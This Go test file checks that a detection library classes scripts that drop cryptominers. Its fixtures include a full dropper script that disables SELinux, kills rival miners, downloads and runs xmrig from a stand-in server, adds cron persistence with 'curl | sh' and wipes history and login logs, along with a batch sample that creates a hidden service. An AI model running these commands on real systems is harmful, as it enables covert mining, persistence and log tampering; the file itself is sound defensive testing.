package behaviour

import (
	"slices"
	"strings"
	"testing"

	"lamproom/detection"
	"lamproom/detection/detectiontest"
	"lamproom/evidence"
	"lamproom/format/commandline"
	"lamproom/observation"
)

// script follows a shell script and states what it does, as the dissector of
// text would.
func script(text string) []observation.Observation {
	return state("run.sh", text, commandline.Script([]byte(text), nil))
}

func batch(text string) []observation.Observation {
	text = strings.ReplaceAll(text, "\n", "\r\n")
	return state("run.bat", text, commandline.Batch([]byte(text), nil))
}

func state(name, text string, t commandline.Trace) []observation.Observation {
	ev := &evidence.Evidence{Name: name, ID: evidence.ID{1}}
	value := func(s string, from, to int) observation.Value {
		return observation.Value{Text: s, At: evidence.Cite(ev, []byte(text), 0, from, to)}
	}
	var out []observation.Observation
	for _, c := range t.Commands {
		cl := observation.CommandLine{Raw: value(text[c.From:c.To], c.From, c.To), Setting: observation.Script, Wrappers: c.Wrappers, Output: c.Output, PipedTo: c.PipedTo, Wraps: c.Wraps}
		for _, a := range c.Argv {
			cl.Argv = append(cl.Argv, value(a.Text, a.Start, a.End))
		}
		out = append(out, observation.Observation{Where: cl.Raw.At.Locator, Fact: cl})
	}
	for _, d := range t.Documents {
		if len(d.Text) == 0 || d.Edits {
			continue
		}
		lo, hi := d.Place(0, len(d.Text))
		w := observation.Written{Path: d.Name, Text: value(string(d.Text), lo, max(lo, hi)), Append: d.Append, Setting: observation.Script}
		out = append(out, observation.Observation{Where: w.Text.At.Locator, Fact: w})
	}
	return out
}

func ids(l *detectiontest.Log) []string {
	var out []string
	for _, f := range l.Findings {
		out = append(out, f.Rule)
	}
	slices.Sort(out)
	return slices.Compact(out)
}

func level(l *detectiontest.Log) (v detection.Level) {
	for _, f := range l.Findings {
		v = max(v, f.Mining)
	}
	return v
}

// A dropper as many campaigns have it, its parts by themselves, and what looks
// like one.
const bringing = `#!/bin/bash
setenforce 0
SERVER=http://198.51.100.7/b2f6
pkill -f kdevtmpfsi
pkill -f kinsing
ps aux | grep -v grep | grep -E 'xmrig|minerd' | awk '{print $2}' | xargs kill -9
netstat -anp | grep :3333 | awk '{print $7}' | xargs kill -9
for h in pool.minexmr.com xmr.crypto-pool.fr; do echo "127.0.0.1 $h" >> /etc/hosts; done
curl -o /var/tmp/.x/sysupd $SERVER/xmrig64
chmod +x /var/tmp/.x/sysupd
/var/tmp/.x/sysupd &
(crontab -l; echo "*/5 * * * * curl -s $SERVER/a.sh | sh") | crontab -
history -c
`

func TestDroppers(t *testing.T) {
	d := New()
	for name, c := range map[string]struct {
		text string
		want detection.Level
	}{
		"all of it":          {bringing, detection.Likely},
		"miner by its name":  {"wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz\ntar xf xmrig-6.21.0-linux-x64.tar.gz\n./xmrig-6.21.0/xmrig -c config.json\nsysctl -w vm.nr_hugepages=1280\n", detection.Likely},
		"only fetched, run":  {"curl -LO https://example.org/xmrig.tar.gz\ntar xzf xmrig.tar.gz\n./xmrig\n", detection.Possible},
		"rivals, unnamed":    {"pkill xmrig; pkill kinsing; pkill minerd; pkill kdevtmpfsi\ncurl http://198.51.100.7/a.sh | bash\nchattr +i /etc/cron.d/x\necho > /var/log/wtmp\n", detection.Likely},
		"clean-up":           {"#!/bin/sh\n# removes what was found\npkill -9 xmrig\npkill -9 kinsing\npkill -9 kdevtmpfsi\npkill -9 minerd\nchattr -i /etc/cron.d/x\nrm -rf /tmp/kinsing /etc/cron.d/x\ncrontab -r\n", detection.NoneSeen},
		"installer":          {"curl -fsSL https://get.example.org/install.sh | sh\nsystemctl enable --now tool\nuseradd -m tool\n", detection.NoneSeen},
		"huge pages":         {"sysctl -w vm.nr_hugepages=1280\nmodprobe msr\nsystemctl enable postgres\n", detection.NoneSeen},
		"scanner's helper":   {"curl -o clamav.tgz https://example.org/clamav.tgz\ntar xzf clamav.tgz\n./clamscan -r /\npkill xmrig\npkill minerd\n", detection.NoneSeen},
		"build":              {"git clone https://github.com/xmrig/xmrig.git\ncd xmrig && mkdir build && cd build && cmake .. && make\n", detection.NoneSeen},
		"asks a miner's age": {"xmrig --version\n", detection.NoneSeen},
	} {
		t.Run(name, func(t *testing.T) {
			l := detectiontest.Run(t, d, script(c.text)...)
			if got := level(l); got != c.want {
				t.Errorf("level %v, want %v: %v", got, c.want, ids(l))
			}
		})
	}
}

func TestWhatADropperDoes(t *testing.T) {
	l := detectiontest.Run(t, New(), script(bringing)...)
	got := ids(l)
	for _, id := range []string{"mining.dropper", "download.file", "download.run", "download.drop", "persistence.cron", "rivals.kill", "rivals.block", "tampering.selinux", "tampering.logs"} {
		if !slices.Contains(got, id) {
			t.Errorf("%s is missing: %v", id, got)
		}
	}
	uses := map[string]detection.Use{}
	for _, s := range l.Sightings {
		uses[s.Indicator.Value] = s.Use
	}
	for value, use := range map[string]detection.Use{
		"http://198.51.100.7/b2f6/xmrig64": detection.UseDownload, "http://198.51.100.7/b2f6/a.sh": detection.UseDownload,
		"pool.minexmr.com": detection.UseDecoy, "xmr.crypto-pool.fr": detection.UseDecoy,
	} {
		if uses[value] != use {
			t.Errorf("%s is used as %q, want %q", value, uses[value], use)
		}
	}
}

// What an administrator does every day is hardly worth a line.
func TestOrdinaryScriptsAreQuiet(t *testing.T) {
	for name, text := range map[string]string{
		"deployment": "curl -fsSL -o /tmp/app.tgz https://example.org/app.tgz\ntar xzf /tmp/app.tgz -C /opt\nsystemctl restart app\nulimit -n 65535\ndocker run --name db -d postgres\n",
		"checks":     "curl -s http://localhost:8080/health\nps aux | grep nginx\npkill -HUP nginx\niptables -L\n",
	} {
		l := detectiontest.Run(t, New(), script(text)...)
		if len(l.Findings) > 0 {
			t.Errorf("%s: %v", name, ids(l))
		}
	}
}

func TestConforms(t *testing.T) {
	detectiontest.Conform(t, New(), script(bringing), batch("sc create Svc binPath= C:\\x\\a.exe start= auto\nattrib +h +s C:\\x\\a.exe\ntaskkill /f /im xmrig.exe\n"))
}
